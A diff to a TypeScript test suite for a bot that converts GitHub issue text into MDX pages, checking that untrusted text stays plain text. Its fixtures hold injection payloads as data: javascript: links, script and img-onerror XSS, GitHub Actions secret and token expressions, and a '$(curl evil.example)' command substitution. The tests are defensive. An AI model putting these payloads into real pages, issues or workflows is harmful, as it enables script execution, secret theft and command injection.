@@ -130,10 +130,27 @@ describe('praktijk bot: untrusted text stays text', () => {
   it('refuses the javascript: link at its field', () => {
     expect(outcome.ok).toBe(false);
     if (outcome.ok) return;
-    expect(outcome.problems.map((p) => [p.field, p.value])).toEqual([['body.inHetKort', 'javascript:alert(1)']]);
+    expect(outcome.problems.map((p) => [p.field, p.value])).toContainEqual(['body.inHetKort', 'javascript:alert(1)']);
   });
 
-  const withoutLink = {...event, issue: {...event.issue, body: event.issue.body!.replace('[klik](javascript:alert(1))', 'klik')}};
+  it('refuses markup in the title and the summary, which are shown as plain text', () => {
+    if (outcome.ok) return;
+    expect(outcome.problems.filter((p) => p.field === 'title' || p.field === 'summary').map((p) => p.field)).toEqual(['title', 'summary']);
+  });
+
+  // Without the link and without markup in title and summary, the hostile body text must stay text.
+  const plainTitle = '$(curl evil.example) @everyone';
+  const withoutLink = {
+    ...event,
+    issue: {
+      ...event.issue,
+      body: event.issue.body!
+        .replace('[klik](javascript:alert(1))', 'klik')
+        .replace('<script>alert(1)</script> ${{ github.token }} ', '')
+        .replace('{process.exit()} en <img src=x onerror=alert(1)>', 'process.exit() en img src=x onerror=alert(1)')
+        .replace('${{ secrets.X }}', 'secrets.X'),
+    },
+  };
   const page = issueToPage(withoutLink, siteDir);
 
   it('writes a page with no JSX, expression or ESM nodes from the text, which passes the content lint and validation', () => {
@@ -154,7 +171,7 @@ describe('praktijk bot: untrusted text stays text', () => {
 
   it('shows the text as typed on the rendered page', async () => {
     if (!page.ok) return;
-    expect(page.frontmatter.title).toBe('<script>alert(1)</script> ${{ github.token }} $(curl evil.example) @everyone');
+    expect(page.frontmatter.title).toBe(plainTitle);
     const html = await renderBody(page.mdx);
     const text = html.replace(/<[^>]+>/g, '').replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&#x27;/g, "'").replace(/&amp;/g, '&');
     for (const typed of [
